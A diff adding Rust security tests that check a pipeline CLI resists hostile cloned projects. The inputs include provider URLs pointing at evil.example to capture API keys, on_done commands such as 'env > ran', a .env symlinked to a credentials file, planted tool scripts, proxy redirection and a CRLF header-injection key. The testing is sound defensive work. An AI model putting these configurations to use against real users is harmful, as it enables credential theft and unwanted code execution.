@@ -1,0 +1,399 @@
+//! Projects as a stranger would write them, cloned and tried: one for each attack on whoever runs a command in one.
+//!
+//! Each command that needs no yes is run in each of them. None may run anything, reach anybody, show a secret, or touch a
+//! file outside; those that need a yes refuse. `SECURITY.md` promises it.
+
+use std::collections::BTreeMap;
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::process::Command;
+
+use crate::trust::Elsewhere;
+use crate::workbench::{BATCH, KEY, Run, Workbench, command_in};
+
+/// What only the user has.
+const SECRET: &str = "aws-secret-of-the-user";
+
+/// Commands that never need a yes.
+const SAFE: [&[&str]; 15] = [
+    &["plan"],
+    &["batch-build", "plan"],
+    &["list"],
+    &["list", "said"],
+    &["show", "said/a"],
+    &["lineage", "said/a"],
+    &["runs"],
+    &["batch-build", "list"],
+    &["batch-build", "status"],
+    &["trust"],
+    &["trust", "list"],
+    &["build", "--cassette-mode", "replay"],
+    &["batch-build", "run", "--cassette-mode", "replay"],
+    &["demo", "run", "."],
+    &["plugin", "inspect", "map"],
+];
+
+/// Commands that act for the user.
+const ACTING: [&[&str]; 4] = [
+    &["build"],
+    &BATCH,
+    &["batch-build", "run"],
+    &["batch-build", "resume"],
+];
+
+/// A project of a stranger, and what would notice if it got its way.
+struct HostileClone {
+    bench: Workbench,
+    elsewhere: Elsewhere,
+    outside: PathBuf,
+    before: BTreeMap<PathBuf, Vec<u8>>,
+}
+
+impl HostileClone {
+    /// `provider` stands in the table of the provider, `pipeline` in that of the pipeline.
+    fn new(provider: &str, pipeline: &str) -> Self {
+        let bench = Workbench::with_layers("");
+        bench.write("notes/a.md", "a note");
+        bench.write(
+            "synix.toml",
+            &format!(
+                r#"[pipeline]
+name = "clone"
+{pipeline}
+
+[providers.openai]
+retries = 0
+backoff = 0
+{provider}
+
+[models.default]
+provider = "openai"
+model = "gpt-4o-mini"
+
+[layers.notes]
+source = "notes/*.md"
+
+[layers.said]
+transform = "map"
+inputs = ["notes"]
+[layers.said.config]
+prompt = "Say: {{{{ content }}}}"
+"#
+            ),
+        );
+        let outside = bench.path("../outside");
+        fs::create_dir_all(&outside).unwrap();
+        fs::write(
+            outside.join("credentials"),
+            format!("aws_secret_access_key={SECRET}\n"),
+        )
+        .unwrap();
+        Self {
+            before: files(&outside),
+            outside,
+            elsewhere: Elsewhere::start(),
+            bench,
+        }
+    }
+
+    fn run(&self, arguments: &[&str]) -> Run {
+        let mut command = self.bench.command(arguments);
+        command.env("AWS_SECRET_ACCESS_KEY", SECRET);
+        self.elsewhere.between(&mut command)
+    }
+
+    /// Nothing came of a command for the stranger.
+    #[track_caller]
+    fn nothing_came_of(&self, arguments: &[&str], run: &Run) {
+        let what = format!("{arguments:?}: {run:?}");
+        assert!(run.code >= 0, "{what}");
+        assert!(!run.says(SECRET) && !run.says(KEY), "{what}");
+        assert_eq!(self.elsewhere.seen(), [""; 0], "{what}");
+        assert_eq!(self.bench.sent(), 0, "{what}");
+        assert!(!self.bench.path("ran").exists(), "{what}");
+        assert_eq!(files(&self.outside), self.before, "{what}");
+    }
+
+    #[track_caller]
+    fn is_safe(&self) {
+        for arguments in SAFE {
+            self.nothing_came_of(arguments, &self.run(arguments));
+        }
+    }
+
+    /// The commands that act do not, and say why.
+    #[track_caller]
+    fn is_refused(&self, code: i32, why: &str) {
+        for arguments in ACTING {
+            let run = self.run(arguments);
+            self.nothing_came_of(arguments, &run);
+            // Without a build there is nothing to take up.
+            if arguments[1..] != ["resume"] {
+                assert!(run.code == code && run.says(why), "{arguments:?}: {run:?}");
+            }
+        }
+    }
+}
+
+/// Every file below a folder, with its bytes.
+fn files(folder: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
+    let mut found = BTreeMap::new();
+    for entry in fs::read_dir(folder).unwrap() {
+        let path = entry.unwrap().path();
+        if path.is_dir() {
+            found.extend(files(&path));
+        } else {
+            let bytes = fs::read(&path).unwrap();
+            found.insert(path, bytes);
+        }
+    }
+    found
+}
+
+/// W1, attacks 1 and 2: a `.env` that moves the cache of compiled code into the clone.
+#[test]
+fn a_cache_in_the_clone_is_not_used() {
+    for line in [
+        "SYNIX_CACHE_DIR=vendor",
+        "export SYNIX_CACHE_DIR='vendor'",
+        "XDG_CACHE_HOME=vendor",
+        "HOME=vendor",
+        "SYNIX_CONFIG_DIR=vendor",
+    ] {
+        let clone = HostileClone::new("base_url = \"https://evil.example\"", "");
+        clone.bench.write(".env", &format!("{line}\n"));
+        clone
+            .bench
+            .write("vendor/synix/planted.cwasm", "native code");
+        let before = files(&clone.bench.path("vendor"));
+        clone.is_safe();
+        clone.is_refused(5, "evil.example");
+        let input = ["plugin", "run", "map", "--input", "notes/a.md"];
+        clone.nothing_came_of(&input, &clone.run(&input));
+        assert_eq!(files(&clone.bench.path("vendor")), before, "{line}");
+        assert!(clone.run(&["plan"]).says("ignored"), "{line}");
+    }
+}
+
+/// W3, attack 4: the clone's own server.
+#[test]
+fn a_server_of_the_clone_gets_no_key() {
+    let clone = HostileClone::new("base_url = \"https://evil.example/v1\"", "");
+    clone.is_safe();
+    clone.is_refused(5, "OPENAI_API_KEY");
+}
+
+/// W3, attack 5: the same by `.env`.
+#[test]
+fn dot_env_moves_no_provider() {
+    let clone = HostileClone::new("", "");
+    let url = clone.bench.provider.openai_url();
+    clone
+        .bench
+        .write(".env", &format!("OPENAI_BASE_URL={url}\n"));
+    clone.is_safe();
+    let run = clone.run(&["build"]);
+    assert_eq!(clone.bench.sent(), 0, "{run:?}");
+    assert_eq!(
+        clone.elsewhere.seen(),
+        ["CONNECT api.openai.com:443 HTTP/1.1"]
+    );
+}
+
+/// W3, attack 6: any variable as a key.
+#[test]
+fn no_other_secret_is_sent_as_a_key() {
+    for base_url in ["", "base_url = \"https://evil.example/v1\""] {
+        let provider = format!("api_key_env = \"AWS_SECRET_ACCESS_KEY\"\n{base_url}");
+        let clone = HostileClone::new(&provider, "");
+        clone.is_safe();
+        clone.is_refused(5, "AWS_SECRET_ACCESS_KEY");
+    }
+}
+
+/// W3, attack 7: a file of the user as `.env`.
+#[cfg(unix)]
+#[test]
+fn dot_env_is_no_link_to_a_file_of_the_user() {
+    let clone = HostileClone::new("api_key_env = \"aws_secret_access_key\"", "");
+    let url = clone.bench.provider.openai_url();
+    let file = fs::read_to_string(clone.bench.path("synix.toml")).unwrap();
+    let file = file.replace("retries = 0", &format!("base_url = \"{url}\"\nretries = 0"));
+    clone.bench.write("synix.toml", &file);
+    std::os::unix::fs::symlink("../outside/credentials", clone.bench.path(".env")).unwrap();
+    clone.is_safe();
+    clone.is_refused(1, "symbolic link");
+}
+
+/// W11, attacks 28 and 29: a `.env` that never ends.
+#[cfg(unix)]
+#[test]
+fn dot_env_is_a_regular_file_of_bounded_size() {
+    let clone = HostileClone::new("", "");
+    let path = clone.bench.path(".env");
+    let made = Command::new("mkfifo").arg(&path).status().unwrap();
+    assert!(made.success());
+    clone.is_safe();
+    clone.is_refused(1, "regular file");
+    fs::remove_file(&path).unwrap();
+    std::os::unix::fs::symlink("/dev/zero", &path).unwrap();
+    clone.is_safe();
+    clone.is_refused(1, "symbolic link");
+    fs::remove_file(&path).unwrap();
+    fs::write(&path, "A=1\n".repeat(300_000)).unwrap();
+    clone.is_safe();
+    clone.is_refused(1, "more than");
+}
+
+/// W4, W9, attacks 8 and 9: a command of the clone.
+#[test]
+fn a_command_of_the_clone_does_not_run() {
+    for pipeline in [
+        "on_done = \"env > ran\"",
+        "on_done = \"env > ran\"\non_done_in_replay = true",
+        "on_done = [\"touch\", \"ran\"]\non_done_in_replay = true",
+    ] {
+        let clone = HostileClone::new("", pipeline);
+        clone
+            .bench
+            .write("cassettes/clone.json", "{\"version\": 1, \"entries\": []}");
+        clone.is_safe();
+        clone.is_refused(5, "run this command with your rights");
+    }
+}
+
+/// W10, attack 44: a service on this machine, called by a URL of the clone.
+#[test]
+fn a_local_service_is_not_called() {
+    let service = Elsewhere::start();
+    let clone = HostileClone::new("", &format!("on_done_url = \"{}/admin\"", service.url()));
+    clone.is_safe();
+    clone.is_refused(5, "send the status of each build");
+    assert_eq!(service.seen(), [""; 0]);
+
+    let digest = "0".repeat(64);
+    let clone = HostileClone::new("", "");
+    let file = fs::read_to_string(clone.bench.path("synix.toml")).unwrap();
+    let plugin = format!("transform = \"{}/secret#sha256={digest}\"", service.url());
+    clone
+        .bench
+        .write("synix.toml", &file.replace("transform = \"map\"", &plugin));
+    clone.is_safe();
+    clone.is_refused(5, "fetch a plugin from");
+    assert_eq!(service.seen(), [""; 0]);
+}
+
+/// W21, attack 21: a `.env` that has answers written outside.
+#[test]
+fn dot_env_moves_no_cassette() {
+    let clone = HostileClone::new("base_url = \"https://evil.example\"", "");
+    clone.bench.write(
+        ".env",
+        "SYNIX_CASSETTE_MODE=record\nSYNIX_CASSETTE_DIR=../outside\n",
+    );
+    clone.is_safe();
+    clone.is_refused(5, "evil.example");
+}
+
+/// W1, attack 22: a `.env` that brings the tools along, and another project that is built.
+#[test]
+fn dot_env_brings_no_tools() {
+    let clone = HostileClone::new("", "");
+    let ran = clone.bench.path("ran");
+    for tool in ["zig", "cargo", "clang", "componentize-py", "npm", "go"] {
+        let path = format!("tools/{tool}");
+        clone
+            .bench
+            .write(&path, &format!("#!/bin/sh\ntouch {}\n", ran.display()));
+        let made = Command::new("chmod")
+            .arg("+x")
+            .arg(clone.bench.path(&path))
+            .status();
+        assert!(made.unwrap().success());
+    }
+    clone.bench.write(".env", "SYNIX_TOOLS=tools\nPATH=tools\n");
+    for language in ["c", "rust", "go"] {
+        clone.run(&["plugin", "new", "own", "--lang", language, language]);
+        let arguments = ["plugin", "build", language];
+        let mut command = clone.bench.command(&arguments);
+        let run = Run::of(command.env("PATH", "/nowhere"));
+        assert_eq!(run.code, 1, "{run:?}");
+        clone.nothing_came_of(&arguments, &run);
+    }
+}
+
+/// Attacks 23 and 24: what `.env` says of crashes and proxies has no effect.
+#[test]
+fn dot_env_ends_no_command_and_sets_no_proxy() {
+    let proxy = Elsewhere::start();
+    let bench = Workbench::team();
+    let url = proxy.url();
+    bench.write(
+        ".env",
+        &format!("SYNIX_CRASH_AT=1\nHTTP_PROXY={url}\nHTTPS_PROXY={url}\nALL_PROXY={url}\nSYNIX_CLOCK=7\nCI=1\n"),
+    );
+    let run = bench.ok(&["build"]);
+    assert!(run.says("SYNIX_CRASH_AT") && run.says("ignored"), "{run:?}");
+    assert_eq!(proxy.seen(), [""; 0]);
+}
+
+/// W21, attack 46: a server to which everybody on the way can listen.
+#[test]
+fn a_far_server_gets_no_key_in_the_clear() {
+    let clone = HostileClone::new("base_url = \"http://evil.example/v1\"", "");
+    clone.is_safe();
+    clone.is_refused(5, "unencrypted");
+    let run = clone.run(&["build", "--trust"]);
+    clone.nothing_came_of(&["build", "--trust"], &run);
+}
+
+/// Attack 47: a key that would begin another header.
+#[test]
+fn a_key_of_several_lines_is_not_sent() {
+    let bench = Workbench::team();
+    bench.write(".env", "OPENAI_API_KEY=\"sk-own\\r\\nx-evil: 1\"\n");
+    let mut command = bench.command(&["build"]);
+    let run = Run::of(command.env_remove("OPENAI_API_KEY"));
+    assert_ne!(run.code, 0, "{run:?}");
+    assert!(!run.says("x-evil"), "{run:?}");
+    assert_eq!(bench.sent(), 0);
+}
+
+/// W8, attack 48: a pipeline file that another user put into a folder above.
+#[cfg(unix)]
+#[test]
+fn a_pipeline_file_of_another_user_above_is_not_found() {
+    use std::os::unix::fs::{PermissionsExt as _, chown};
+
+    let clone = HostileClone::new("", "on_done = \"touch ran\"");
+    let above = clone.bench.path("");
+    fs::set_permissions(&above, fs::Permissions::from_mode(0o1777)).unwrap();
+    fs::create_dir_all(above.join("mine/sub")).unwrap();
+    if chown(&above, Some(4242), None).is_err() {
+        // Only root can give a folder away; the search itself is tested without.
+        return;
+    }
+    chown(above.join("synix.toml"), Some(4242), None).unwrap();
+    for arguments in [&["build"][..], &["plan"], &["trust"], &["build", "--trust"]] {
+        let run = Run::of(&mut command_in(&above.join("mine/sub"), arguments));
+        assert!(
+            run.code == 2 && run.says("another owner"),
+            "{arguments:?}: {run:?}"
+        );
+        clone.nothing_came_of(arguments, &run);
+    }
+}
+
+/// W5, W12: answers that no provider gave.
+#[test]
+fn a_state_of_the_clone_is_not_built_on() {
+    let maker = Workbench::team();
+    maker.ok(&["build"]);
+    let clone = HostileClone::new("", "");
+    crate::trust::copy(&maker.path(".synix"), &clone.bench.path(".synix"));
+    clone.is_refused(5, "use the state in .synix");
+    for arguments in [&["list"][..], &["show", "summary"], &["plan"], &["runs"]] {
+        let run = clone.run(arguments).expect_code(0);
+        clone.nothing_came_of(arguments, &run);
+    }
+}
